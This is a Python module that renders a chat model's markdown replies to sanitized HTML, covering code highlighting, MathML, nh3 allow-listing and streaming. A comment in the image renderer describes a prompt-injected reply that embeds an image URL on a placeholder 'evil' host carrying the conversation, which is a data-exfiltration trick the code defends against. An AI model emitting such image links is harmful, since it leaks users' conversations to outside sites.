"""Markdown from a model to safe HTML: tables, code highlighting, math, then nh3.

Everything a model writes goes through :func:`render`; nothing else puts model
text into a page. Raw HTML in the markdown is not interpreted (it shows as text),
and the result is sanitized by nh3 against an allow-list anyway, so a reply, a
code block or a link cannot run script. An image from another site is shown as
a link, so showing a reply never makes a request anywhere but here (the pages'
Content-Security-Policy says the same to the browser). Math (``$...$``, ``$$...$$``, ``\\(...\\)``)
becomes MathML, which browsers draw natively. Rendering is cheap enough to
repeat on the whole accumulated text while a reply streams (see
``tests/webapp/chat/test_markdown.py`` for the figures).
"""

from __future__ import annotations

import html
import re
from functools import lru_cache

import nh3
from latex2mathml.converter import convert as latex_to_mathml
from markdown_it import MarkdownIt
from mdit_py_plugins.dollarmath import dollarmath_plugin
from mdit_py_plugins.footnote import footnote_plugin
from mdit_py_plugins.tasklists import tasklists_plugin
from mdit_py_plugins.texmath import texmath_plugin
from pygments import highlight
from pygments.formatters import HtmlFormatter
from pygments.lexers import get_lexer_by_name
from pygments.util import ClassNotFound

MAX_HIGHLIGHT_CHARS = 100_000  # beyond this a code block is shown plain: highlighting is the slow part

MATHML_TAGS = {
    "math", "semantics", "annotation", "mrow", "mi", "mo", "mn", "ms", "mtext", "mspace", "msup", "msub",
    "msubsup", "mfrac", "msqrt", "mroot", "mstyle", "mtable", "mtr", "mtd", "munder", "mover",
    "munderover", "menclose", "mpadded", "mphantom", "merror", "mmultiscripts", "mprescripts", "none",
}
MATHML_ATTRIBUTES = {
    "display", "mathvariant", "stretchy", "fence", "separator", "lspace", "rspace", "columnalign",
    "rowalign", "columnspacing", "rowspacing", "accent", "accentunder", "movablelimits", "notation",
    "width", "height", "depth", "linethickness", "scriptlevel", "displaystyle", "symmetric", "largeop",
    "minsize", "maxsize", "form", "encoding",
}
HTML_TAGS = {
    "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "b", "i", "s", "del", "ins",
    "code", "pre", "kbd", "sub", "sup", "blockquote", "ul", "ol", "li", "a", "img", "table", "thead",
    "tbody", "tr", "th", "td", "span", "div", "input", "section", "label", "dl", "dt", "dd",
}
ATTRIBUTES: dict[str, set[str]] = {
    "a": {"href", "title", "id"},
    "img": {"src", "alt", "title"},
    "code": {"class"},
    "pre": {"class"},
    "span": {"class"},
    "div": {"class"},
    "th": {"class"},
    "td": {"class"},
    "ol": {"start"},
    "li": {"class", "id"},
    "ul": {"class"},
    "input": {"type", "checked", "disabled", "class"},
    "section": {"class"},
    "sup": {"class", "id"},
    "math": MATHML_ATTRIBUTES | {"xmlns"},
    **{tag: MATHML_ATTRIBUTES for tag in MATHML_TAGS - {"math"}},
}

_formatter = HtmlFormatter(nowrap=True)


def _highlight(code: str, lang: str, _attrs: str) -> str:
    lang = (lang or "").strip().split()[0].lower() if lang else ""
    label = f' class="language-{html.escape(lang)}"' if lang else ""
    body = html.escape(code)
    if lang and len(code) <= MAX_HIGHLIGHT_CHARS:
        try:
            body = highlight(code, get_lexer_by_name(lang), _formatter)
        except ClassNotFound:
            pass
    return f'<pre class="highlight"><code{label}>{body}</code></pre>\n'


# An image a reply may embed: a path on this site, or a raster image in a data: URL.
DATA_IMAGE = re.compile(r"data:image/(?:png|jpeg|gif|webp);base64,[A-Za-z0-9+/]*={0,2}")


def _same_site(src: str) -> bool:
    """A path on this site (``/...``); never ``//host`` or ``/\\host``, which browsers read as another site."""
    return (src.startswith("/") and not src.startswith(("//", "/\\"))
            and not any(c == "\\" or c <= " " for c in src))


def _embeddable(src: str) -> bool:
    return _same_site(src) or DATA_IMAGE.fullmatch(src) is not None


def _image(self, tokens, idx, options, env) -> str:
    # A reply is model output, and a prompt-injected one can write ![](https://evil/?q=<the chat>):
    # the browser would send the conversation to that site just by showing the image. Images load
    # only from this site or a data: URL; any other becomes a link the reader can choose to follow
    # (or, inside a link already, its text).
    token = tokens[idx]
    src = str(token.attrGet("src") or "")
    if _embeddable(src):
        return self.image(tokens, idx, options, env)
    alt = html.escape(self.renderInlineAsText(token.children or [], options, env) or src)
    depth = sum(1 if t.type == "link_open" else -1 if t.type == "link_close" else 0 for t in tokens[:idx])
    if depth > 0:
        return alt
    title = token.attrGet("title")
    title_attr = f' title="{html.escape(str(title))}"' if title else ""
    return f'<a href="{html.escape(src)}"{title_attr}>{alt}</a>'


def _cell(self, tokens, idx, options, env) -> str:
    # A column's alignment as a class: the pages' Content-Security-Policy allows no style attributes.
    token = tokens[idx]
    style = str(token.attrGet("style") or "")
    if style.startswith("text-align:"):
        token.attrs.pop("style")
        token.attrSet("class", "align-" + style.removeprefix("text-align:"))
    return self.renderToken(tokens, idx, options, env)


def _keep_attribute(tag: str, attribute: str, value: str) -> str | None:
    """nh3's last word on each attribute: an image's src only as :func:`_image` allows, data: nowhere else."""
    if tag == "img" and attribute == "src":
        return value if _embeddable(value) else None
    if attribute in ("href", "src") and value.lstrip().lower().startswith("data:"):
        return None
    return value


def _math(display: str):
    def render(self, tokens, idx, options, env) -> str:
        source = tokens[idx].content
        try:
            mathml = latex_to_mathml(source, display=display)
        except Exception:  # latex2mathml raises many kinds on bad input: show the source instead
            return f'<code class="math-error">{html.escape(source)}</code>'
        return f'<div class="math">{mathml}</div>' if display == "block" else mathml
    return render


@lru_cache(maxsize=1)
def _parser() -> MarkdownIt:
    # html=False: raw HTML in a reply is shown as text, never interpreted.
    md = (MarkdownIt("commonmark", {"html": False, "linkify": False, "typographer": False,
                                    "highlight": _highlight, "breaks": True})
          .enable(["table", "strikethrough"])
          .use(dollarmath_plugin, allow_space=True, double_inline=True)
          .use(texmath_plugin, delimiters="brackets")
          .use(footnote_plugin)
          .use(tasklists_plugin))
    md.add_render_rule("image", _image)
    md.add_render_rule("th_open", _cell)
    md.add_render_rule("td_open", _cell)
    inline, block = _math("inline"), _math("block")
    for rule in ("math_inline", "math_inline_double", "math_single", "math_inline_bracket"):
        md.add_render_rule(rule, inline)
    for rule in ("math_block", "math_block_label", "math_block_eqno", "math_block_bracket"):
        md.add_render_rule(rule, block)
    return md


def sanitize(fragment: str) -> str:
    """Keep only the allow-listed tags, attributes and URL schemes."""
    return nh3.clean(fragment, tags=HTML_TAGS | MATHML_TAGS, attributes=ATTRIBUTES,
                     url_schemes={"http", "https", "mailto", "data"}, link_rel="noopener noreferrer nofollow",
                     strip_comments=True, attribute_filter=_keep_attribute)


def render(text: str) -> str:
    """Markdown (possibly cut off mid-stream) to sanitized HTML."""
    if not text:
        return ""
    return sanitize(_parser().render(text))


def render_plain(text: str) -> str:
    """Text shown as typed (a user's own message): escaped, line breaks kept."""
    return html.escape(text).replace("\n", "<br>\n")


def _fence_opener(line: str) -> str | None:
    stripped = line.lstrip(" ")
    if len(line) - len(stripped) > 3:
        return None
    for mark in ("```", "~~~"):
        if stripped.startswith(mark):
            return mark[0] * (len(stripped) - len(stripped.lstrip(mark[0])))
    return None


def settled_end(text: str, start: int = 0) -> int:
    """How far (from ``start``, itself a block boundary) the text is made of finished blocks.

    A block is finished once a blank line outside any code fence or ``$$`` math
    block is followed by an unindented line: what follows cannot change it (near
    enough for a live preview; the finished reply is rendered whole).
    """
    end = start
    fence: str | None = None
    in_math = False
    after_blank = False
    pos = start
    for line in text[start:].splitlines(keepends=True):
        stripped = line.strip()
        if not line.endswith("\n"):
            # The last line is still being written; once it starts unindented after a
            # blank line, it begins a new block all the same.
            if fence is None and not in_math and after_blank and stripped and not line[0].isspace():
                end = pos
            break
        if fence is not None:
            if stripped.startswith(fence) and not stripped.strip(fence[0]):
                fence = None
        elif in_math:
            if stripped.endswith("$$") or stripped.endswith("\\]"):
                in_math = False
        elif stripped:
            if after_blank and not line[0].isspace():
                end = pos
            opener = _fence_opener(line)
            if opener:
                fence = opener
            elif stripped in ("$$", "\\[") or (stripped.startswith("$$") and not stripped[2:].rstrip().endswith("$$")):
                in_math = True
        after_blank = fence is None and not in_math and not stripped
        pos += len(line)
    return end


class LiveRender:
    """Renders a growing reply in pieces: each finished block once, the unfinished tail each time.

    Re-rendering the whole text on every tick costs O(length) and grows without
    bound on a long answer; this keeps each tick to the size of the last block.
    """

    def __init__(self) -> None:
        self.settled = 0

    def update(self, text: str) -> tuple[str, str]:
        """HTML of the blocks finished since the last call (to append), and of the tail (to replace)."""
        cut = settled_end(text, self.settled)
        finished = ""
        if cut > self.settled:
            finished = render(text[self.settled:cut])
            self.settled = cut
        return finished, render(text[self.settled:])
